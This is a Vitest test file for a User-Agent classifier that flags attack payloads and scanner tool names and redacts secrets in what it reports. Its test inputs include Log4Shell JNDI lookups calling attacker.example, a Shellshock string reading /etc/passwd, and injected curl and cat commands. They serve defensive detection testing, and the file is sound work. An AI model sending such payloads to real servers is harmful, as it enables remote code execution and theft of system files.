import { describe, expect, it } from "vitest";
import { createUserAgentClassifier } from "../../../shared/detectors/userAgent/classifyUserAgent.js";
import { DEFAULT_ATTACK_TOOL_TOKENS } from "../../../shared/detectors/userAgent/defaultAttackToolTokens.js";

describe("createUserAgentClassifier", () => {
  const classify = createUserAgentClassifier();

  it("reports Defender's validation sample `javascript:` as script code", () => {
    expect(classify("javascript:")).toEqual({ category: "script-code", fragment: "javascript:" });
  });

  // The fragment was lower-cased, as the scanners read it; the sample request kept the case.
  it("reports the decoded lookup as the fragment, in the case it was sent in", () => {
    expect(classify("Mozilla/5.0 %24%7BJNDI:LDAP://attacker.example/a%7D")).toEqual({
      category: "log4shell",
      fragment: "${JNDI:LDAP://attacker.example/a}",
    });
  });

  it("reports the fragment lower-cased when lower-casing moved characters", () => {
    // "İ" lower-cases to two characters, so the scanner's positions no longer fit the original.
    expect(classify("İstanbul-app/1.0 () { :; }; /bin/Cat /etc/passwd")?.fragment).toBe(
      "() { :; }; /bin/cat /etc/passwd",
    );
  });

  it("redacts a key-like run in the fragment and keeps the rest readable", () => {
    const finding = classify(
      "${jndi:ldap://attacker.example/a?key=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b}",
    );

    expect(finding?.fragment).toBe("${jndi:ldap://attacker.example/a?…redacted…}");
  });

  it("redacts a base64 token even when it contains slashes and padding", () => {
    const finding = classify("agent; curl -H 'x-api-key: q2Vf/8kL+0pXz9Rt4mWb7Yc1Nd6Ua3Es==' h");

    expect(finding?.fragment).toBe("; curl -H 'x-api-key: …redacted…' h");
  });

  it("cuts the fragment to 120 characters", () => {
    const finding = classify(`\${jndi:ldap://attacker.example/${"a.".repeat(200)}}`);

    expect(finding?.fragment).toHaveLength(120);
    expect(finding?.fragment.startsWith("${jndi:ldap://attacker.example/a.a.")).toBe(true);
  });

  it("never shows the visible part of a secret that the 120-character cut falls inside", () => {
    const secret = "Zx81Qw72Er63Ty54Ui45Op36As27Df18";
    const finding = classify(`\${jndi:ldap://attacker.example/${"b".repeat(70)}/${secret}}`);

    expect(finding?.fragment.endsWith("/…redacted…")).toBe(true);
    expect(finding?.fragment).not.toContain("zx81");
  });

  it("keeps long words and paths without digits in clear", () => {
    const finding = classify("agent; cat /etc/supercalifragilisticexpialidocious/passwd");

    expect(finding?.fragment).toBe("; cat /etc/supercalifragilisticexpialidocious/passwd");
  });

  it("reports the payload rather than the tool when a scanner sends one", () => {
    expect(classify("sqlmap/1.7.2#stable ${jndi:ldap://attacker.example/a}")?.category).toBe(
      "log4shell",
    );
  });

  it("reports a tool's product token with its version", () => {
    expect(classify("Mozilla/5.0 (compatible; Nikto/2.5.0; +https://cirt.net)")).toEqual({
      category: "attack-tool",
      fragment: "Nikto/2.5.0",
    });
  });

  it("matches an attack-tool token only as a whole word", () => {
    expect(classify("unmapped-client/1.0 (remapnmapper)")).toBeNull();
  });

  it("stays silent on attack tools when reportAttackTools is false", () => {
    const classifyPayloadsOnly = createUserAgentClassifier({ reportAttackTools: false });

    expect(classifyPayloadsOnly("sqlmap/1.7.2#stable (https://sqlmap.org)")).toBeNull();
    expect(classifyPayloadsOnly("sqlmap/1.7.2 ${jndi:ldap://x/a}")?.category).toBe("log4shell");
  });

  it("uses the attack-tool tokens it is given instead of the default list", () => {
    const classifyWithOwnList = createUserAgentClassifier({
      attackToolTokens: [...DEFAULT_ATTACK_TOOL_TOKENS, "InternalPenTest"],
    });
    const classifyWithShortList = createUserAgentClassifier({ attackToolTokens: ["nikto"] });

    expect(classifyWithOwnList("InternalPenTest/3.1")?.fragment).toBe("InternalPenTest/3.1");
    expect(classifyWithShortList("sqlmap/1.7.2")).toBeNull();
  });

  it("ignores a payload that starts beyond maxExaminedChars", () => {
    const classifyShortPrefix = createUserAgentClassifier({ maxExaminedChars: 32 });
    const userAgent = `${"x".repeat(32)}\${jndi:ldap://attacker.example/a}`;

    expect(classifyShortPrefix(userAgent)).toBeNull();
    expect(classify(userAgent)?.category).toBe("log4shell");
  });

  it("finds nothing in an empty User-Agent", () => {
    expect(classify("")).toBeNull();
  });

  it("throws at construction when maxExaminedChars is not a positive integer", () => {
    expect(() => createUserAgentClassifier({ maxExaminedChars: 0 })).toThrow(
      "User-Agent classifier option maxExaminedChars is 0; expected a positive integer",
    );
  });

  it("throws at construction when an attack-tool token starts with a space", () => {
    expect(() => createUserAgentClassifier({ attackToolTokens: ["nikto", " (hydra)"] })).toThrow(
      'attackToolTokens[1] is " (hydra)"; expected at least 3 characters starting with a letter or digit',
    );
  });

  it("throws at construction when an attack-tool token is shorter than 3 characters", () => {
    expect(() => createUserAgentClassifier({ attackToolTokens: ["nc"] })).toThrow(
      'attackToolTokens[0] is "nc"; expected at least 3 characters starting with a letter or digit',
    );
  });
});
